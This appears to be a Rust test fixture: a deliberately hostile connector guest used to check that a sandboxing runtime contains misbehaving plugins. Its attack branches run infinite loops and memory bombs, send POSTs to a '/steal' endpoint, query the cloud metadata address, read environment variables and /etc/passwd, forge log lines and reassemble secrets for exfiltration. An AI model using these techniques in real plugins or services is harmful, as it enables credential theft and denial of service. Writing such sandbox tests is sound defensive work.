//! A hostile connector. The PMS property id passed to `read-units` picks the attack;
//! the runtime's tests run each one and check it ends with its classified error, and
//! that the host serves well-behaved connectors afterwards.

use epms_connector_sdk::bindings::wasi::http::outgoing_handler::{self, FutureIncomingResponse};
use epms_connector_sdk::bindings::wasi::http::types::{Fields, OutgoingRequest, Scheme};
use epms_connector_sdk::http::Request;
use epms_connector_sdk::{
    Config, Connector, ConnectorError, ConnectorInfo, Unit, UnitPage, export_connector, field,
    secret,
};

struct Hostile {
    base_url: String,
}

fn unit(id: &str, number: String) -> Unit {
    Unit {
        id: id.to_owned(),
        number,
        building: None,
        floorplan: None,
        vacant: None,
        warnings: vec![],
    }
}

impl Connector for Hostile {
    fn info() -> ConnectorInfo {
        ConnectorInfo {
            vendor: "hostile".into(),
            display_name: "Hostile test guest".into(),
            version: "0.0.1".into(),
            config_fields: vec![
                field("base-url", "Base URL", "", false, true),
                field("password", "Password", "", true, true),
            ],
            status_vocabulary: vec![],
        }
    }

    fn new(config: Config) -> Result<Self, ConnectorError> {
        Ok(Hostile {
            base_url: config.base_url()?.to_owned(),
        })
    }

    fn read_units(&self, attack: &str, cursor: Option<String>) -> Result<UnitPage, ConnectorError> {
        match attack {
            "infinite-loop" => {
                let mut n: u64 = 0;
                loop {
                    n = std::hint::black_box(n.wrapping_add(1));
                }
            }
            "memory-bomb" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![0xAB; 1 << 20]);
                    std::hint::black_box(&hoard);
                }
            }
            "panic" => panic!("hostile guest panics on purpose"),
            "forbidden-host" => {
                // Another port of the same machine: not the credential's origin.
                Request::get("http://127.0.0.1:1/steal").send()?;
                Err(ConnectorError::Protocol(
                    "the forbidden request went through".into(),
                ))
            }
            "forbidden-post" => {
                // As a connector in another language sees a refusal: one opaque
                // network error, reported as a transient failure.
                match Request::post(
                    "http://127.0.0.1:1/steal",
                    "text/plain",
                    vec![b'x'; 64 << 10],
                )
                .send()
                {
                    Ok(_) => Err(ConnectorError::Protocol(
                        "the forbidden request went through".into(),
                    )),
                    Err(_) => Err(ConnectorError::Transient("NetworkError".into())),
                }
            }
            "log-injection" => {
                // A newline in a log message, to forge a host log line of its own.
                epms_connector_sdk::log::info(
                    "all good\n2026-12-01T00:00:00.000000Z ERROR epms_api: FORGED admin token leaked",
                );
                Ok(UnitPage {
                    records: vec![],
                    next: None,
                })
            }
            "metadata" => {
                Request::get("http://169.254.169.254/latest/meta-data/").send()?;
                Err(ConnectorError::Protocol(
                    "the metadata request went through".into(),
                ))
            }
            "big-response" => {
                let resp = Request::get(format!("{}/big", self.base_url)).send()?;
                Err(ConnectorError::Protocol(format!(
                    "read {} bytes past the cap",
                    resp.body.len()
                )))
            }
            "slow" => {
                Request::get(format!("{}/slow", self.base_url)).send()?;
                Err(ConnectorError::Protocol(
                    "the slow answer came back in time".into(),
                ))
            }
            "read-secret" => {
                // Every way a guest could try to see a secret: ask a server to echo it,
                // look in the environment, look in files. Report what was seen.
                let echo = match Request::post(
                    format!("{}/echo", self.base_url),
                    "text/plain",
                    format!("password={}", secret::placeholder("password")),
                )
                .header(
                    "authorization",
                    secret::basic_auth("user", &secret::placeholder("password")),
                )
                .send()
                {
                    Ok(answer) => String::from_utf8_lossy(&answer.body).into_owned(),
                    Err(refused) => format!("refused: {refused}"),
                };
                let env: Vec<String> = std::env::vars().map(|(k, v)| format!("{k}={v}")).collect();
                let file = std::fs::read_to_string("/etc/passwd").unwrap_or_default();
                Ok(UnitPage {
                    records: vec![
                        unit("echo", echo),
                        unit("env", env.join(";")),
                        unit("file", file),
                    ],
                    next: None,
                })
            }
            "many-resources" => {
                // Hold ever more host resources, each as big as it may be.
                let mut held = Vec::new();
                let value = vec![b'v'; 60 << 10];
                loop {
                    let fields = Fields::new();
                    let _ = fields.append("x-hoard", &value);
                    held.push(fields);
                    std::hint::black_box(&held);
                }
            }
            "fat-pages" => {
                // Endless pages of 1,000 units with 4 KB numbers: the host keeps them all.
                let page: u64 = cursor.as_deref().and_then(|c| c.parse().ok()).unwrap_or(0);
                let number = "n".repeat(4_000);
                Ok(UnitPage {
                    records: (0..1_000)
                        .map(|i| unit(&format!("{page}-{i}"), number.clone()))
                        .collect(),
                    next: Some((page + 1).to_string()),
                })
            }
            "huge-cursor" => {
                // Endless pages whose cursors are 1 MB each, all different.
                let page: u64 = cursor
                    .as_deref()
                    .and_then(|c| c.split(':').next())
                    .and_then(|c| c.parse().ok())
                    .unwrap_or(0);
                Ok(UnitPage {
                    records: vec![],
                    next: Some(format!("{}:{}", page + 1, "c".repeat(1 << 20))),
                })
            }
            "huge-field" => Ok(UnitPage {
                records: vec![unit("u1", "n".repeat(16 << 20))],
                next: None,
            }),
            "parallel-bodies" => {
                // 24 large answers in flight at once, each under the response cap.
                let url = format!("{}/big", self.base_url);
                let futures: Vec<_> = (0..24).map(|_| start_get(&url)).collect::<Result<_, _>>()?;
                let mut bodies = Vec::new();
                for future in &futures {
                    let response = loop {
                        if let Some(ready) = future.get() {
                            break ready;
                        }
                        future.subscribe().block();
                    };
                    match response {
                        Ok(Ok(response)) => bodies.push(response.consume()),
                        _ => {
                            return Err(ConnectorError::Transient("an answer failed".into()));
                        }
                    }
                }
                Err(ConnectorError::Protocol(format!(
                    "{} large answers held at once",
                    bodies.len()
                )))
            }
            "endless-slow-paging" => {
                // Small, slow pages without end: only the session's time limit stops it.
                std::thread::sleep(std::time::Duration::from_millis(300));
                let page: u64 = cursor.as_deref().and_then(|c| c.parse().ok()).unwrap_or(0);
                Ok(UnitPage {
                    records: vec![unit(&page.to_string(), "1".into())],
                    next: Some((page + 1).to_string()),
                })
            }
            "echo-encodings" => {
                // The echo, asked back in every encoding a server might apply.
                let mut seen = Vec::new();
                for encoding in [
                    "gzip",
                    "unicode",
                    "upper",
                    "base64",
                    "first-half",
                    "second-half",
                ] {
                    let answer = Request::post(
                        format!("{}/echo-as/{encoding}", self.base_url),
                        "text/plain",
                        secret::placeholder("password"),
                    )
                    .header("accept-encoding", "gzip")
                    .send();
                    seen.push(match answer {
                        Ok(a) => unit(encoding, String::from_utf8_lossy(&a.body).into_owned()),
                        Err(refused) => unit(encoding, format!("refused: {refused}")),
                    });
                }
                Ok(UnitPage {
                    records: seen,
                    next: None,
                })
            }
            "reassembled-secret" => {
                // Each 4-byte piece alone is too short to be caught in an answer; put
                // together they are the secret, which must not leave in a record, an
                // error or a log.
                let mut pieces = Vec::new();
                for piece in 0..4 {
                    let a = Request::post(
                        format!("{}/echo-as/piece-{piece}", self.base_url),
                        "text/plain",
                        secret::placeholder("password"),
                    )
                    .send()?;
                    pieces.push(String::from_utf8_lossy(&a.body).into_owned());
                }
                let secret = pieces.concat();
                epms_connector_sdk::log::info(&format!("reassembled {secret}"));
                match cursor.as_deref() {
                    Some("in-error") => Err(ConnectorError::Protocol(format!("got {secret}"))),
                    _ => Ok(UnitPage {
                        records: vec![unit("stolen", secret)],
                        next: None,
                    }),
                }
            }
            other => Err(ConnectorError::NotFound(format!(
                "no attack named {other:?}"
            ))),
        }
    }
}

/// Starts a GET of `url` (`http://host:port/path`) without waiting for the answer.
fn start_get(url: &str) -> Result<FutureIncomingResponse, ConnectorError> {
    let rest = url
        .strip_prefix("http://")
        .ok_or_else(|| ConnectorError::Config("http only".into()))?;
    let (authority, path) = rest.split_at(rest.find('/').unwrap_or(rest.len()));
    let request = OutgoingRequest::new(Fields::new());
    let bad = |_| ConnectorError::Config("bad request".into());
    request.set_scheme(Some(&Scheme::Http)).map_err(bad)?;
    request.set_authority(Some(authority)).map_err(bad)?;
    request.set_path_with_query(Some(path)).map_err(bad)?;
    outgoing_handler::handle(request, None).map_err(|e| ConnectorError::Transient(format!("{e:?}")))
}

export_connector!(Hostile);
